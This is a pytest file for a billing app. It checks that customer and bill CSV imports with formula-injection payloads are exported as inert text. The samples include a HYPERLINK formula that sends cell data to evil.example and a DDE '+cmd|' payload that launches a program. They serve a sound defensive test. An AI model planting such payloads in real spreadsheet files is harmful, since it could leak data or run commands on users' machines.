"""A hostile import comes out of the statement CSV as text, never as a spreadsheet formula."""

import csv
import datetime as dt
import io

import pytest
from sqlmodel import select

from mypage import csvsafe
from mypage.billing import statements
from mypage.models import Customer
from mypage.operator.importer import import_bills, import_customers
from tests.core.csv_samples import BILL_HEADER, CUSTOMER_HEADER

NOW = dt.datetime(2026, 11, 25, 1, 0, tzinfo=dt.UTC)
TODAY = dt.date(2026, 11, 25)
NAME = '=HYPERLINK("http://evil.example/?x="&A1,"明細")'
NUMBER = "-ACT-3000000009-202610"
METHOD = "@SUM(1+1)"
DESCRIPTIONS = ["＝1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "ACTテレビ 基本料金"]
RISKY = ("=", "+", "-", "@", "\t", "\r")


def hostile_files() -> tuple[bytes, bytes]:
    customers = f'{CUSTOMER_HEADER}\n3000000009,"{NAME.replace(chr(34), chr(34) * 2)}",,,,,\n'
    lines = "".join(
        f'3000000009,2026-10,{NUMBER},2026-11-01,2026-11-27,{METHOD},unpaid,"{d}",1,1000,1000,10\n'
        for d in DESCRIPTIONS
    )
    lines += f"3000000009,2026-10,{NUMBER},2026-11-01,2026-11-27,{METHOD},unpaid,割引,1,-500,-500,10\n"
    return customers.encode(), f"{BILL_HEADER}\n{lines}".encode()


def test_a_hostile_import_exports_as_text(dbs):
    customers, bills = hostile_files()
    import_customers(dbs, customers, NOW)
    import_bills(dbs, bills)
    dbs.commit()
    customer = dbs.exec(select(Customer).where(Customer.customer_number == "3000000009")).one()
    item = statements.latest(dbs, customer.id, TODAY)
    rows = list(csv.reader(io.StringIO(statements.statement_csv(item, customer.name).decode("utf-8-sig"))))
    cells = [value for row in rows for value in row]
    # Nothing a spreadsheet would run: every such text starts with the apostrophe.
    assert not [value for value in cells if value.startswith(RISKY) and not value.lstrip("-").isdigit()]
    assert ["お客様名", "'" + NAME] in rows
    assert ["請求書番号", "'" + NUMBER] in rows
    assert ["お支払方法", "'" + METHOD] in rows
    texts = {row[0] for row in rows[9:] if row}
    # The importer turned the full-width ＝ into "=", which is defused as well.
    assert {"'=1+2", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "ACTテレビ 基本料金"} <= texts
    # Numbers stay numbers, a discount included.
    assert ["割引", "1", "-500", "-500", "10", ""] in rows
    assert rows[-1] == ["ご請求金額(税込)", "", "", str(item.total)]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1", "'＝1"),
        ("a=1", "a=1"),
        ("", ""),
        (-500, -500),
        (3, 3),
    ],
)
def test_cell(value, written):
    assert csvsafe.cell(value) == written
